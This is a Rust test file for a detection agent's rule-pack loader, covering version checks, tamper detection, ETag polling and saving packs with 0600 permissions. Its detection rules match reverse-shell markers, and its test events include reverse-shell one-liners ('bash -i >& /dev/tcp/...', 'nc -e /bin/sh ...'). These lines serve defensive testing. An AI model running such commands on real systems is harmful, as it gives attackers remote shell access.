use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;

use http::HeaderMap;
use serde_json::json;
use vigie_event::Event;
use vigie_wire::NamedText;

use super::*;

pub(crate) const MAPPING: &str = "name: test linux\npriority: 10\ntransformations:\n  - id: proc\n    type: field_name_mapping\n    mapping:\n      CommandLine: process.command_line\n    rule_conditions:\n      - type: logsource\n        product: linux\n        category: process_creation\n";

pub(crate) const REVERSE_SHELL_ID: &str = "5a0c4b6e-0000-4000-8000-000000000001";

pub(crate) fn reverse_shell() -> String {
    format!(
        "title: Reverse shell\nid: {REVERSE_SHELL_ID}\nlogsource: {{product: linux, category: process_creation}}\n\
         detection:\n  sel: {{CommandLine|contains: '/dev/tcp/'}}\n  condition: sel\nlevel: high\n"
    )
}

pub(crate) fn rule(id: &str, needle: &str) -> String {
    format!(
        "title: Rule {id}\nid: {id}\nlogsource: {{product: linux, category: process_creation}}\n\
         detection:\n  sel: {{CommandLine|contains: '{needle}'}}\n  condition: sel\nlevel: medium\n"
    )
}

/// A pack as the collector serves it: its version is what the texts load as on its side
/// (no drop rules there).
pub(crate) fn served(rules: &[(&str, String)], disabled: &[&str]) -> Rulepack {
    let mappings = vec![NamedText {
        name: "linux.yml".into(),
        text: MAPPING.into(),
    }];
    let placeholders = BTreeMap::from([("admins".to_owned(), vec!["root".to_owned()])]);
    let sources: Vec<(String, String)> = rules
        .iter()
        .map(|(n, t)| ((*n).to_owned(), t.clone()))
        .collect();
    let opts = LoadOptions {
        mappings: vec![vigie_detect::parse_mapping(MAPPING).unwrap()],
        placeholders: placeholders.clone(),
        drop_rules: BTreeSet::new(),
        disabled: disabled.iter().map(|d| (*d).to_owned()).collect(),
        only_central: false,
    };
    let (set, _) = RuleSet::load_sources(&sources, &opts);
    Rulepack {
        version: set.version().to_owned(),
        revision: 3,
        rules: sources
            .into_iter()
            .map(|(name, text)| NamedText { name, text })
            .collect(),
        mappings,
        placeholders,
        disabled: disabled.iter().map(|d| (*d).to_owned()).collect(),
    }
}

pub(crate) fn body(p: &Rulepack) -> Vec<u8> {
    serde_json::to_vec(p).unwrap()
}

pub(crate) fn process_event(command_line: &str) -> Event {
    Event::from_value(json!({
        "message": "exec",
        "process": {"command_line": command_line},
        "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
    }))
    .unwrap()
}

fn answer(status: StatusCode, etag: Option<&str>, body: Vec<u8>) -> Result<Answer, ClientError> {
    let mut headers = HeaderMap::new();
    if let Some(e) = etag {
        headers.insert(header::ETAG, e.parse().unwrap());
    }
    Ok(Answer {
        status,
        headers,
        body: Bytes::from(body),
    })
}

fn failures(stats: &Arc<Mutex<DetectStats>>) -> u64 {
    stats.lock().unwrap().reload_failures
}

#[test]
fn a_served_pack_loads_as_its_version_whatever_the_agents_drop_rules() {
    let pack = served(
        &[
            ("shell.yml", reverse_shell()),
            ("api/b.yml", rule("b", "nc -e")),
            ("api/c.yml", rule("c", "mkfifo")),
        ],
        &["c"],
    );
    let loaded = validate(&body(&pack), &BTreeSet::new()).unwrap();
    assert_eq!(loaded.set.version(), pack.version);
    assert_eq!(loaded.revision, 3);
    assert_eq!(loaded.set.len(), 2, "the disabled rule is left out");
    // The served mapping applies: `CommandLine` reads `process.command_line`.
    let hits = loaded
        .set
        .evaluate(&process_event("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].id, REVERSE_SHELL_ID);
    assert!(loaded
        .set
        .evaluate(&process_event("mkfifo /tmp/f"))
        .is_empty());

    // The agent's own drop rules change what it ships, not the version.
    let drops = BTreeSet::from(["b".to_owned()]);
    let loaded = validate(&body(&pack), &drops).unwrap();
    assert_eq!(loaded.set.version(), pack.version);
    let hits = loaded
        .set
        .evaluate(&process_event("nc -e /bin/sh 10.0.0.1"));
    assert_eq!(hits[0].action, vigie_detect::Action::Drop);
}

#[test]
fn inconsistent_or_broken_packs_are_refused_with_the_reason() {
    let good = served(&[("shell.yml", reverse_shell())], &[]);
    let none = BTreeSet::new();

    let mut other_version = good.clone();
    other_version.version = "sha256-0000000000000000".into();
    let err = validate(&body(&other_version), &none).unwrap_err();
    assert!(
        matches!(&err, PackError::Version { served, loaded } if served == "sha256-0000000000000000" && *loaded == good.version),
        "{err}"
    );
    // A text changed in transit (or an option dropped) is caught the same way.
    let mut tampered = good.clone();
    tampered.rules[0].text = tampered.rules[0].text.replace("/dev/tcp/", "/dev/udp/");
    assert!(matches!(
        validate(&body(&tampered), &none),
        Err(PackError::Version { .. })
    ));
    let mut no_placeholders = good.clone();
    no_placeholders.placeholders.clear();
    assert!(matches!(
        validate(&body(&no_placeholders), &none),
        Err(PackError::Version { .. })
    ));

    let mut bad_mapping = good.clone();
    bad_mapping.mappings[0].text = "transformations: [[[".into();
    let err = validate(&body(&bad_mapping), &none).unwrap_err();
    assert!(
        matches!(&err, PackError::Mapping { name, .. } if name == "linux.yml"),
        "{err}"
    );
    let err = validate(b"{\"version\": 1}", &none).unwrap_err();
    assert!(matches!(err, PackError::Json(_)), "{err}");

    let bytes = body(&good);
    assert!(validate_capped(&bytes, &none, bytes.len()).is_ok());
    let err = validate_capped(&bytes, &none, bytes.len() - 1).unwrap_err();
    assert!(
        matches!(err, PackError::TooLarge { limit } if limit == bytes.len() - 1),
        "{err}"
    );
}

#[test]
fn a_new_pack_is_saved_0600_and_loads_at_the_next_start() {
    let dir = tempfile::tempdir().unwrap();
    let stats = Arc::new(Mutex::new(DetectStats::default()));
    let mut poller = Poller::new(dir.path(), BTreeSet::new(), None, stats.clone());
    assert!(poller.request_headers().is_empty(), "nothing to offer yet");
    let pack = served(&[("shell.yml", reverse_shell())], &[]);
    let etag = format!("\"{}\"", pack.version);

    let got = poller
        .on_answer(answer(StatusCode::OK, Some(&etag), body(&pack)))
        .expect("a new pack");
    assert_eq!(got.set.version(), pack.version);
    let path = saved_path(dir.path());
    assert_eq!(std::fs::read(&path).unwrap(), body(&pack));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, [SAVED_FILE], "no temporary file left behind");
    assert_eq!(poller.request_headers(), [("if-none-match", etag.clone())]);
    assert!(poller.answered());

    // The same version served again is not swapped in again.
    assert!(poller
        .on_answer(answer(StatusCode::OK, Some(&etag), body(&pack)))
        .is_none());

    let again = load_saved(&path, &BTreeSet::new()).unwrap().unwrap();
    assert_eq!(again.set.version(), pack.version);
    assert_eq!(failures(&stats), 0);
}

#[test]
fn a_refused_pack_keeps_the_previous_one_and_counts_once() {
    let dir = tempfile::tempdir().unwrap();
    let stats = Arc::new(Mutex::new(DetectStats::default()));
    let first = served(&[("shell.yml", reverse_shell())], &[]);
    let mut poller = Poller::new(dir.path(), BTreeSet::new(), None, stats.clone());
    poller
        .on_answer(answer(StatusCode::OK, None, body(&first)))
        .unwrap();
    let current = format!("\"{}\"", first.version);

    // Unchanged, unreachable, or unwilling: nothing changes, nothing counts.
    assert!(poller
        .on_answer(answer(StatusCode::NOT_MODIFIED, Some(&current), Vec::new()))
        .is_none());
    assert!(poller
        .on_answer(answer(
            StatusCode::SERVICE_UNAVAILABLE,
            None,
            b"busy".to_vec()
        ))
        .is_none());
    assert!(poller
        .on_answer(Err(ClientError::Request("connection refused".into())))
        .is_none());
    assert_eq!(failures(&stats), 0);

    // An inconsistent pack is refused: the saved one stays, and its ETag is not asked again.
    let mut bad = served(
        &[
            ("shell.yml", reverse_shell()),
            ("api/b.yml", rule("b", "nc -e")),
        ],
        &[],
    );
    bad.rules.pop();
    let bad_etag = format!("\"{}\"", bad.version);
    assert!(poller
        .on_answer(answer(StatusCode::OK, Some(&bad_etag), body(&bad)))
        .is_none());
    assert_eq!(failures(&stats), 1);
    assert_eq!(std::fs::read(saved_path(dir.path())).unwrap(), body(&first));
    assert_eq!(
        poller.request_headers(),
        [("if-none-match", format!("{current}, {bad_etag}"))]
    );

    // A body over the cap is refused too.
    assert!(poller
        .on_answer(Err(ClientError::TooLarge(MAX_RULEPACK_BYTES)))
        .is_none());
    assert_eq!(failures(&stats), 2);

    // A good new pack replaces the first one.
    let next = served(
        &[
            ("shell.yml", reverse_shell()),
            ("api/b.yml", rule("b", "nc -e")),
        ],
        &[],
    );
    let got = poller
        .on_answer(answer(StatusCode::OK, None, body(&next)))
        .unwrap();
    assert_eq!(got.set.len(), 2);
    assert_eq!(
        poller.request_headers(),
        [("if-none-match", format!("\"{}\"", next.version))]
    );
    assert_eq!(failures(&stats), 2);
}

#[test]
fn a_saved_pack_that_is_missing_or_broken_is_not_used() {
    let dir = tempfile::tempdir().unwrap();
    let path = saved_path(dir.path());
    assert!(load_saved(&path, &BTreeSet::new()).unwrap().is_none());
    std::fs::write(&path, b"{\"version\":").unwrap();
    assert!(matches!(
        load_saved(&path, &BTreeSet::new()),
        Err(PackError::Json(_))
    ));
}
